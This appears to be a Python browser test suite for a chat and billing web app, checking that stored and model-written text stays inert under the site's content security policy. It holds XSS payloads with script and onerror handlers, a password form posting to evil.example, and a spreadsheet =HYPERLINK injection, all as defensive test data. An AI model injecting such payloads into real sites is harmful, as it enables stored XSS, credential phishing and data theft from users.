"""What models and other users write, in a real browser under the served policy (bar 12).

The policy runs no inline script but the page's own, so a text that reached the page as markup would
break it. The fixture fails for requests to other hosts and for breaks of the policy.
"""

import csv
import secrets
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests import servers
from tests.browser.conftest import ADMIN
from tests.browser.robot import Robot

pytestmark = pytest.mark.browser
Make = Callable[..., Robot]
TRAP = "window.pwned = []; window.alert = (what) => { window.pwned.push(what); };"
IMAGE = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
FORM = "<form action=https://evil.example><input name=password autofocus onfocus=alert(3)></form>"
CELL = '=HYPERLINK("https://evil.example/";"x")'
SECTIONS = {
    "credits": ("Overview", "Alerts", "Invoices", "Organisation", "Send"),
    "admin": (
        "Overview",
        "Audit & books",
        "Invoices",
        "Messages",
        "Payments",
        "Models & prices",
        "Packages & codes",
    ),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[servers.Server]:
    """A server whose model writes hostile text."""
    folder = tmp_path_factory.mktemp("hostile") / "data"
    with servers.serving(folder, **ADMIN, LLM__SCRIPT__FAULT="hostile") as running:
        yield running


def inert(page: Any) -> None:
    """Nothing ran, and nothing on the page could take somebody elsewhere by surprise."""
    assert page.evaluate("window.pwned") == []
    assert "pwned" not in page.title()
    fields = "#chat-log :is(form, input:not([type=checkbox]), select, textarea)"
    seen = f"Array.from(document.querySelectorAll('{fields}')).filter(e => e.offsetParent)"
    assert page.evaluate(f"{seen}.map(e => e.outerHTML)") == []
    places = "iframe, object, embed, base, meta[http-equiv=refresh]"
    found = page.evaluate(f"Array.from(document.querySelectorAll('{places}'), e => e.outerHTML)")
    assert found == ['<base href="./">']  # Gradio's own
    assert page.locator("a[href^='javascript' i], [onerror], [onload], [onfocus]").count() == 0
    outside = page.evaluate(
        "Array.from(document.links).filter(a => a.host !== location.host)"
        ".filter(a => !(a.rel || '').includes('noopener')).map(a => a.outerHTML)"
    )
    assert outside == []


def post(person: servers.Person, path: str, body: dict[str, Any], method: str = "POST") -> Any:
    """Ask for something; it may be refused, but not for a fault of ours."""
    answer = person.bearer.request(method, f"/api/{path}", json=body)
    assert answer.status_code < 500, answer.text
    return answer.json() if answer.content else {}


def seed(eve: servers.Person, victim: str) -> None:
    """Whatever a user can write that somebody else may see."""
    for text in (IMAGE, FORM, CELL):
        post(eve, "billing/details", {"name": text[:120], "address": text}, "PUT")
        paid = post(eve, "billing/add", {"package_id": "starter"})
        post(eve, f"billing/payments/{paid['payment_id']}/confirm", {})
        post(eve, "billing/transfer", {"to_username": victim, "credits": 1, "note": text})
        org = post(eve, "orgs", {"name": text[:60]})
        if "id" in org:
            post(eve, f"orgs/{org['id']}/members", {"username": victim})
            post(eve, f"orgs/{org['id']}/fund", {"credits": 5})
            gift = {"username": victim, "credits": 1, "note": text}
            post(eve, f"orgs/{org['id']}/allocate", gift)
        said = eve.send(text).json()
        talk = f"chat/conversations/{said['conversation_id']}"
        post(eve, talk, {"title": text[:80]}, "PATCH")
    for name in (IMAGE, FORM):
        body = {"username": name, "email": f"{secrets.token_hex(4)}@example.org"}
        post(eve, "auth/register", {**body, "password": servers.PASSWORD})
        post(eve, "auth/register", {**body, "username": "x-y", "email": f"{name}@example.org"})


@pytest.mark.full
def test_texts_of_others_stay_texts(robot: Make, hostile: servers.Server) -> None:
    """Stored XSS: notes, names, titles and details of one user, in the views of all others."""
    victim = f"vic-{secrets.token_hex(3)}"
    servers.Person(hostile, victim).close()
    eve = servers.Person(hostile, f"eve-{secrets.token_hex(3)}")
    seed(eve, victim)
    for who in ("root", victim):
        seer = robot(at=hostile.url)
        seer.page.add_init_script(TRAP)
        seer.sign_in(who)
        seer.page.click("#bell-open")
        seer.page.wait_for_selector("#bell-panel :is(.note, .hint)")
        seer.page.wait_for_timeout(300)
        inert(seer.page)
        seer.page.keyboard.press("Escape")
        for tab, sections in SECTIONS.items():
            if tab == "admin" and who != "root":
                continue
            seer.tab(tab.capitalize())
            for section in sections:
                seer.section(tab, section)
                seer.page.wait_for_timeout(500)
                inert(seer.page)
    for line in csv.reader(
        eve.bearer.get("/api/billing/statement", params={"format": "csv"}).text.splitlines()
    ):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in line), line
    eve.close()


def test_text_of_the_model_stays_text(robot: Make, hostile: servers.Server) -> None:
    """In the stream, in the finished answer, after a reload, in the history and its search."""
    ann = robot(at=hostile.url)
    ann.page.add_init_script(TRAP)
    ann.register(f"ann-{secrets.token_hex(3)}")
    ann.pick("SmolLM2")
    for number, text in enumerate((IMAGE, FORM, CELL), 1):
        ann.send(text)
        ann.page.locator("#chat-log .foot").nth(number - 1).wait_for()
        inert(ann.page)
    # What a text brought along as a form cannot be seen, and sent by a script it goes nowhere.
    ann.page.evaluate(
        "document.querySelectorAll('#chat-log form').forEach("
        "f => { f.action = '/api/auth/logout-all'; f.method = 'post'; f.submit(); })"
    )
    ann.page.wait_for_timeout(300)
    assert ann.balance() == 97
    refused = [said for said in ann.violations if "form-action" in said]
    assert bool(refused) == bool(ann.page.locator("#chat-log form").count())
    ann.page.reload()
    ann.page.locator("#chat-log .foot").first.wait_for()
    inert(ann.page)
    for link in ann.page.locator("#chat-log a").all():
        assert (link.get_attribute("href") or "").startswith(("/api/", "http")), link
    ann.tab("History")
    ann.page.fill("#history-search input, #history-search textarea", "HYPERLINK")
    ann.page.locator("#history-list mark").first.wait_for()
    inert(ann.page)
    # The policy stops remote images; that the browser says so is the proof that it did.
    assert ann.violations
    # A sanitiser parses what it throws away, and Chromium reports the handlers in that too.
    stopped = ("img-src", "form-action", "inline event handler")
    assert all(any(what in said for what in stopped) for said in ann.violations)
    ann.violations.clear()
